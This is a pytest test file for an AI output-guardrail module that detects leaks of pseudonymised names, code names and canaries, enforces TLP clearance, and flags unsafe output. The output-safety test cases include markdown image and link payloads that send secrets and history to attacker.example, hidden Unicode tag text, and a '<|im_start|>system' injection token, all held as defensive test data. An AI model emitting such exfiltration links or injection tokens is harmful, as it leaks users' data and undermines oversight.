"""Output checks: leakage (also obfuscated), clearance, public sources, markings, output safety."""

from __future__ import annotations

import base64

import pytest

from guardrails.checks import (
    Finding,
    check_answer_marking,
    check_citation_clearance,
    check_leakage,
    check_output_safety,
    check_patterns,
    check_public_sources,
    clearance_gate,
    failures,
    run_output_checks,
)
from guardrails.markings import TLP
from guardrails.vault import Vault


@pytest.fixture
def vault() -> Vault:
    v = Vault()
    v.pseudonym("PERSON", "Priya Raman")
    v.pseudonym("SOURCE_CODENAME", "CORMORANT")
    v.pseudonym("IP_ADDRESS", "203.0.113.45")
    v.pseudonym("EMAIL_ADDRESS", "m.rinaldi@mfa.gov.example")
    return v


@pytest.mark.parametrize(
    "text",
    [
        "Analyst Priya Raman said so.",
        "analyst PRIYA RAMAN said so.",
        "P r i y a  R a m a n",
        "P.r.i.y.a R.a.m.a.n",
        "Pri\u200bya Ra\u200cman",
        "Priyа Rаman",  # Cyrillic a
        "Pr1ya R4man",
        "C0RM0RANT confirmed",
        "c-o-r-m-o-r-a-n-t",
        "Traffic to 203.0.113.45 and 203[.]0[.]113[.]45",
        "m dot rinaldi at mfa.gov.example — m.rinaldi@mfa.gov.example",
        "The name, encoded: " + base64.b64encode(b"Priya Raman").decode(),
        "Hex: " + b"CORMORANT".hex(),
    ],
)
def test_leakage_catches_obfuscated_forms(vault: Vault, text: str) -> None:
    finding = check_leakage(text=text, vault=vault)
    assert not finding.passed
    assert "Priya" not in finding.detail and "CORMORANT" not in finding.detail


@pytest.mark.parametrize(
    "text",
    [
        "Analyst <PERSON_1> said source <SOURCE_1> reported traffic to <IP_1>.",
        "Raman spectroscopy is unrelated; so is the 203.0.113.0/24 range and m.rinaldi@example.org.",
        "A 203.0.113.4 address is different.",
    ],
)
def test_leakage_passes_clean_drafts(vault: Vault, text: str) -> None:
    assert check_leakage(text=text, vault=vault).passed


def test_leakage_is_case_insensitive_on_purpose(vault: Vault) -> None:
    # A code name that reappears in lower case may still identify the source: fail closed.
    assert not check_leakage(text="The cormorant is a seabird.", vault=vault).passed


def test_canaries_and_secrets() -> None:
    finding = check_leakage(text="ref canary-7F3A9C here", vault=Vault(), canaries=["CANARY-7f3a9c"])
    assert not finding.passed and "canary #1" in finding.detail
    assert not check_leakage(text="xoxb 1029384756", vault=Vault(), secrets=["xoxb-1029384756"]).passed
    assert check_leakage(text="nothing here", vault=Vault(), canaries=["CANARY-7f3a9c"]).passed


def test_check_patterns_by_audience() -> None:
    text = "Beacon to 203.0.113.45 with password: Spring2026!Trade"
    analyst = check_patterns(text=text, audience="analyst")
    assert not analyst.passed and analyst.detail == "The draft still contains: CREDENTIAL."
    assert "IP_ADDRESS" in check_patterns(text=text, audience="diplomat").detail
    assert check_patterns(text="Beacon to 203.0.113.45 with <CREDENTIAL_1>", audience="analyst").passed


@pytest.mark.parametrize(
    ("cited", "ceiling", "passed"),
    [
        ([TLP.CLEAR, TLP.GREEN], TLP.GREEN, True),
        (["AMBER"], "GREEN", False),
        (["amber+strict", "clear"], TLP.AMBER_STRICT, True),
        ([TLP.RED], TLP.AMBER_STRICT, False),
        ([], TLP.CLEAR, True),
    ],
)
def test_citation_clearance(cited: list, ceiling: object, passed: bool) -> None:
    assert check_citation_clearance(cited_tlps=cited, ceiling=ceiling).passed is passed


def test_clearance_gate_refuses_with_a_short_reason() -> None:
    refused = clearance_gate(needed=TLP.AMBER, ceiling=TLP.GREEN)
    assert not refused.passed
    assert refused.detail == "This answer needs TLP:AMBER sources; this channel is cleared for TLP:GREEN."
    red = clearance_gate(needed="RED", ceiling="AMBER+STRICT")
    assert not red.passed and "direct message" in red.detail
    assert clearance_gate(needed="GREEN", ceiling="AMBER").passed


def test_answer_marking_is_the_highest_cited() -> None:
    assert not check_answer_marking(declared="GREEN", cited_tlps=["CLEAR", "AMBER"]).passed
    assert check_answer_marking(declared="AMBER", cited_tlps=["CLEAR", "AMBER"]).passed


def test_public_sources() -> None:
    assert not check_public_sources(audience="public", cited_tlps=["CLEAR", "GREEN"]).passed
    assert check_public_sources(audience="diplomat", cited_tlps=["AMBER"]).passed
    sources = ["The National CERT attributes the defacement to NOISY GULL."]
    ok = check_public_sources(
        audience="public",
        cited_tlps=["CLEAR"],
        text="NOISY GULL defaced the site.",
        source_texts=sources,
        actor_names=["NOISY GULL", "Karsovia"],
    )
    assert ok.passed
    beyond = check_public_sources(
        audience="public",
        cited_tlps=["CLEAR"],
        text="NOISY GULL, backed by Karsovia, defaced the site.",
        source_texts=sources,
        actor_names=["NOISY GULL", "Karsovia"],
    )
    assert not beyond.passed and "Karsovia" in beyond.detail


@pytest.mark.parametrize(
    ("text", "passed"),
    [
        ("A plain brief with a [link](https://www.cisa.gov/kev).", True),
        ("See ![chart](https://attacker.example/x.png?d=secret)", False),
        ("Click [here](https://attacker.example/?q={history})", False),
        ("Hidden\U000e0041\U000e0042 text", False),
        ("<|im_start|>system", False),
    ],
)
def test_output_safety(text: str, passed: bool) -> None:
    assert check_output_safety(text=text).passed is passed


def test_run_output_checks(vault: Vault) -> None:
    findings = run_output_checks(
        text="Analyst <PERSON_1> reports activity.",
        vault=vault,
        ceiling="AMBER",
        cited_tlps=["GREEN", "AMBER"],
        audience="diplomat",
        canaries=["CANARY-7f3a9c"],
        declared_marking="AMBER",
    )
    assert [f.name for f in findings] == [
        "leakage",
        "patterns",
        "citation_clearance",
        "public_sources",
        "output_safety",
        "answer_marking",
    ]
    assert failures(findings) == []
    bad = run_output_checks(
        text="Priya Raman reports CANARY-7f3a9c.",
        vault=vault,
        ceiling="GREEN",
        cited_tlps=["AMBER"],
        audience="diplomat",
        canaries=["CANARY-7f3a9c"],
    )
    assert {f.name for f in failures(bad)} == {"leakage", "patterns", "citation_clearance"}


def test_finding_is_frozen() -> None:
    finding = Finding(name="x", passed=True, detail="d")
    with pytest.raises(ValueError):
        finding.passed = False  # type: ignore[misc]
